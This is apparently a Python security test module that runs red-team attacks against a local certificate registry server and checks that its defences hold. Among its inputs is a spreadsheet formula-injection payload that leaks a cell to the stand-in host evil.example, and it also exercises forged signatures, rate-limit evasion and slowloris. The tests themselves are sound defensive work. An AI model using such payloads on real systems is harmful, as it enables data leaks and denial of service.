"""Issue 15, red-team style: each attack performed end to end against a real `registry serve`
process, on both backends where the store is involved.

Elsewhere, because they need what this module must not do: item 9, the PostgreSQL outage
against a real server (`test_faults.py`: it cuts the database's connections); item 7, an
idle checkpoint refreshed and a public GET that writes nothing (`test_maintenance.py`: it
needs a clock moved by hand)."""

import base64
import io
import json
import socket
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import openpyxl
import pytest
import rfc8785
from jwcrypto import jwk
from pydantic import SecretStr

from registry.application import open_registry
from registry.at_rest import key_path, open_key
from registry.settings import Settings
from registry.signing import CHECKPOINT_TYP, open_keys, sign_detached_with
from registry.tokens import create_token, revoke_tokens
from registry.transparency import checkpoint_payload
from tests.api.conftest import PASSPHRASE, body
from tests.examples import HOLDER, issue_request
from tests.integration.test_secrets import pkcs12_info
from tests.processes import cli, hunt_clock, server, settings_env

REVOCATION = {"reason": "k", "details": "主动", "effective_date": "2026-09-01"}
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@dataclass
class Target:
    base: str
    settings: Settings
    tokens: dict[str, str]
    kid: str

    def auth(self, role: str) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.tokens[role]}"}

    def issue(self, **overrides: object) -> httpx.Response:
        return httpx.post(
            f"{self.base}/api/v1/certificates",
            json=body(issue_request()) | overrides,
            headers=self.auth("registrar"),
            timeout=30,
        )

    def sql(self, statement: str, params: tuple[object, ...] = ()) -> None:
        """What an attacker with the database's credentials does, behind the server's back."""
        with open_registry(self.settings) as registry, registry.views.transaction() as cursor:
            cursor.execute(statement, params)


@pytest.fixture
def target(durable_database_url: str, tmp_path: Path) -> Iterator[Target]:
    settings = Settings(
        database_url=durable_database_url,
        keys_dir=tmp_path / "keys",
        key_passphrase=SecretStr(PASSPHRASE),
        rate_limit=0,
    )
    yield from serve(settings)


@pytest.fixture
def exposed(tmp_path: Path) -> Iterator[Target]:
    """For attacks on the HTTP server itself (the store plays no part): SQLite, the rate
    limit on, a short header deadline."""
    settings = Settings(
        database_url=f"sqlite:///{tmp_path / 'registry.sqlite'}",
        keys_dir=tmp_path / "keys",
        key_passphrase=SecretStr(PASSPHRASE),
        rate_limit=3,
        header_timeout=1,
    )
    yield from serve(settings)


def serve(settings: Settings) -> Iterator[Target]:
    with open_registry(settings) as registry:
        kid = open_keys(registry, settings).generate()
        tokens = {
            role: create_token(registry, name=role, role=role)
            for role in ("registrar", "regulator")
        }
    with server(settings) as base:
        yield Target(base, settings, tokens, kid)


def revoked_certificate(target: Target) -> str:
    no = str(target.issue().json()["registration_no"])
    revoked = httpx.post(
        f"{target.base}/api/v1/certificates/{no}/revocations",
        json=REVOCATION,
        headers=target.auth("registrar"),
        timeout=30,
    )
    assert revoked.status_code == 201, revoked.text
    return no


# 1. A tampered read model ---------------------------------------------------------------


def test_a_revoked_row_set_to_valid_gets_no_valid_receipt_and_fails_the_audit(
    target: Target,
) -> None:
    no = revoked_certificate(target)

    target.sql(
        "UPDATE certificates SET status = 'valid', "
        "facts = replace(facts, '\"revoked\"', '\"valid\"') WHERE registration_no = %s",
        (no,),
    )
    receipt = httpx.get(f"{target.base}/api/v1/verify", params={"number": no, "receipt": 1})
    audit = cli(target.settings, "audit", "verify")

    assert receipt.json()["answer"]["status"] == "revoked"
    assert audit.returncode == 1
    assert f"certificates row {no}: status is 'valid', the events give 'revoked'" in audit.stderr


# 2. Checkpoints deleted with the event they covered ------------------------------------------


def audit_later(target: Target, hours: float, *args: str) -> subprocess.CompletedProcess[str]:
    """`registry audit verify ARGS` run with its wall clock `hours` on (tests/clock), as an
    auditor would find a copy the server stopped refreshing: its checkpoints go stale."""
    later = (datetime.now(UTC) + timedelta(hours=hours)).isoformat()
    return subprocess.run(
        [sys.executable, "-m", "registry.cli", "audit", "verify", *args],
        capture_output=True,
        text=True,
        env={
            "PATH": "/usr/bin:/bin",
            "PYTHONPATH": str(Path(__file__).parents[1] / "clock"),
            "HUNT_CLOCK": later,
            **settings_env(target.settings),
        },
        timeout=120,
        check=False,
    )


def test_a_copy_left_two_hours_without_a_fresh_checkpoint_fails_the_audit_by_default(
    target: Target,
) -> None:
    target.issue()
    httpx.get(f"{target.base}/api/v1/regulator/feed", headers=target.auth("regulator"))

    stale = audit_later(target, 2)
    widened = audit_later(target, 2, "--max-age", "10800")

    assert stale.returncode == 1
    assert "older than the 3600 s (1 h) allowed" in stale.stderr
    assert widened.returncode == 0, widened.stderr


def test_a_revoked_token_brought_back_with_the_checkpoints_deleted_fails_the_audit(
    target: Target,
) -> None:
    with open_registry(target.settings) as registry:
        create_token(registry, name="mallory", role="registrar")
        revoke_tokens(registry, "mallory")
        last = registry.recorder.max_notification_id()
    httpx.get(f"{target.base}/api/v1/audit/checkpoint")

    table, key = (
        ("registry_events", "notification_id")
        if target.settings.database_url.startswith("postgresql")
        else ("stored_events", "rowid")
    )
    target.sql(f"DELETE FROM {table} WHERE {key} = %s", (last,))
    target.sql("DELETE FROM checkpoints")
    audit = cli(target.settings, "audit", "verify")

    assert audit.returncode == 1
    assert audit.stderr.startswith("registry: NOT intact")


# 5. Keys at rest ----------------------------------------------------------------------------


def test_the_served_key_is_sealed_at_600000_rounds_and_a_short_passphrase_makes_none(
    exposed: Target,
) -> None:
    short = exposed.settings.model_copy(
        update={
            "key_passphrase": SecretStr("13th-guess"),
            "keys_dir": exposed.settings.keys_dir.parent / "new-keys",
        }
    )

    sealed = pkcs12_info(key_path(exposed.settings.keys_dir, exposed.kid))
    refused = cli(short, "keys", "generate")

    assert "PBKDF2, AES-256-CBC, Iteration 600000" in sealed
    assert refused.returncode != 0
    assert refused.stderr.startswith("registry: ")
    assert "shorter than 12" in refused.stderr


# 6. A stolen key signing after it was marked compromised ----------------------------------


def test_a_checkpoint_signed_with_a_compromised_key_fails_the_audit(target: Target) -> None:
    target.issue()
    served = httpx.get(f"{target.base}/api/v1/audit/checkpoint").json()
    assert cli(target.settings, "keys", "rotate").returncode == 0
    assert cli(target.settings, "keys", "compromised", target.kid).returncode == 0
    private = open_key(key_path(target.settings.keys_dir, target.kid), PASSPHRASE.encode())
    assert private is not None
    stolen = jwk.JWK.from_pyca(private)
    later = datetime.now(UTC).isoformat()  # after the marking
    forged = {"size": served["size"], "root": served["root"], "timestamp": later}
    forged |= {
        "kid": target.kid,
        "signature": sign_detached_with(
            checkpoint_payload(served["size"], served["root"], later), stolen, CHECKPOINT_TYP
        ),
    }
    held = target.settings.keys_dir.parent / "forged-checkpoint.json"
    held.write_text(json.dumps(forged))

    audit = cli(target.settings, "audit", "verify", "--checkpoint", str(held))

    assert audit.returncode == 1
    assert "the held checkpoint: signed by a key after it was marked compromised" in audit.stderr


# 3. Formula injection ----------------------------------------------------------------------


def test_a_formula_holder_name_is_no_formula_in_the_served_xlsx(target: Target) -> None:
    target.issue(holder=HOLDER | {"name": FORMULA})

    report = httpx.get(
        f"{target.base}/api/v1/regulator/reports",
        params={"from": "2026-01-01", "to": "2099-12-31", "format": "xlsx"},
        headers=target.auth("regulator"),
    )

    sheet = openpyxl.load_workbook(io.BytesIO(report.content)).active
    assert sheet is not None
    assert [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    assert sheet["D2"].value == FORMULA


# 4. A signature of another purpose -----------------------------------------------------------


def test_a_checkpoint_signature_is_not_an_authentic_qr_code(target: Target) -> None:
    target.issue()
    c = httpx.get(f"{target.base}/api/v1/audit/checkpoint").json()
    payload = rfc8785.dumps({"size": c["size"], "root": c["root"], "timestamp": c["timestamp"]})
    header, _, signature = c["signature"].split(".")
    token = f"{header}.{base64.urlsafe_b64encode(payload).rstrip(b'=').decode()}.{signature}"

    verdict = httpx.post(f"{target.base}/api/v1/qr/verify", json={"token": token}).json()
    page = httpx.get(f"{target.base}/v/{token}")

    assert verdict["authentic"] is False
    assert "二维码签名有效" not in page.text


# 10. A report signature that does not say its period ----------------------------------------


def test_two_empty_reports_carry_manifests_naming_their_months(target: Target) -> None:
    def manifest(month: str, last: str) -> dict[str, str]:
        response = httpx.get(
            f"{target.base}/api/v1/regulator/reports",
            params={"from": f"2026-{month}-01", "to": f"2026-{month}-{last}"},
            headers=target.auth("regulator"),
        )
        found: dict[str, str] = json.loads(response.headers["X-Registry-Manifest"])
        return found

    assert (manifest("09", "30")["from"], manifest("10", "31")["from"]) == (
        "2026-09-01",
        "2026-10-01",
    )


# 8. Availability ------------------------------------------------------------------------


def test_a_forged_x_forwarded_for_does_not_escape_the_rate_limit(exposed: Target) -> None:
    answers = [
        httpx.get(f"{exposed.base}/api/v1/clauses", headers={"X-Forwarded-For": f"10.9.9.{n}"})
        for n in range(4)  # the start-up probe took one of the 3 a minute too
    ]

    assert answers[-1].status_code == 429


def test_guessing_tokens_is_held_back_before_a_right_one_is_even_looked_at(
    exposed: Target,
) -> None:
    feed = f"{exposed.base}/api/v1/regulator/feed"
    for n in range(10):
        httpx.get(feed, headers={"Authorization": f"Bearer crt_guess-{n}"})

    held = httpx.get(feed, headers=exposed.auth("regulator"))

    assert held.status_code == 429
    assert int(held.headers["retry-after"]) >= 1


def test_a_slowloris_connection_is_answered_408_and_cut_off(exposed: Target) -> None:
    host, port = exposed.base.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port))) as slow:
        slow.settimeout(60)  # a safety net: the server cuts it after a second
        slow.sendall(b"GET /api/v1/clauses HTTP/1.1\r\nHost: registry\r\nX-Slo")
        answer = slow.recv(4096)

    assert answer.startswith(b"HTTP/1.1 408 ")


# 11 and 12. Input and exposure ---------------------------------------------------------------


@pytest.mark.parametrize(
    "overrides",
    [{"level": True}, {"level": "3"}, {"holder": HOLDER | {"name": "\u3164"}}],
    ids=["level-true", "level-string", "hangul-filler-name"],
)
def test_a_loosely_typed_or_invisible_issue_is_refused(
    target: Target, overrides: dict[str, object]
) -> None:
    response = target.issue(**overrides)

    assert response.status_code == 422


def test_a_huge_proof_position_is_422_not_500(target: Target) -> None:
    response = httpx.get(
        f"{target.base}/api/v1/audit/proof", params={"position": "14461045698923592352268288"}
    )

    assert response.status_code == 422


def test_the_server_answers_without_banner_cacheable_secrets_or_host_redirects(
    target: Target,
) -> None:
    audit = httpx.get(f"{target.base}/api/v1/regulator/feed", headers=target.auth("regulator"))
    redirect = httpx.get(f"{target.base}/api/v1/clauses/", headers={"Host": "evil.example"})

    assert "server" not in audit.headers
    assert audit.headers["cache-control"] == "no-store"
    assert redirect.headers["location"] == "/api/v1/clauses"


def test_two_token_creations_racing_for_one_name_leave_one(target: Target) -> None:
    command = [sys.executable, "-m", "registry.cli", "token", "create", "--role", "registrar"]
    env = {"PATH": "/usr/bin:/bin", **hunt_clock(), **settings_env(target.settings)}
    racers = [
        subprocess.Popen(
            [*command, "--name", "carol"], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE
        )
        for _ in range(2)
    ]
    outcomes = sorted((p.wait(timeout=120), p.stderr.read() if p.stderr else b"") for p in racers)

    assert [code for code, _ in outcomes] == [0, 2]
    assert outcomes[1][1].startswith(b"registry: a live token is already named 'carol'")
